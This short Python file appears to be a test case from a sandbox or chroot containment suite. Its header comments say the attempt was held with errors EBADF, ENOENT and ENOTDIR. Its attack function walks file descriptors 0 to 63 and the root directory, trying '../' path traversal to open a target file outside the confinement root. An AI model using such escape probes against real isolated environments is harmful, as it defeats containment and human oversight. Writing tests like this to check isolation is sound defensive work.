# what: out of the root through descriptors of folders
# control: bare
# held: returned EBADF ENOENT ENOTDIR
import os


def attack(host):
    reached = []
    for number in range(64):
        try:
            folder = os.open("../../../../../../.." + host["file"], os.O_RDONLY, dir_fd=number)
        except (OSError, NotImplementedError):
            continue
        reached.append(str(number))
        os.close(folder)
    try:
        root = os.open("/", os.O_RDONLY)
        os.close(os.open(".." + host["file"], os.O_RDONLY, dir_fd=root))
        reached.append("/..")
    except OSError:
        pass
    return reached
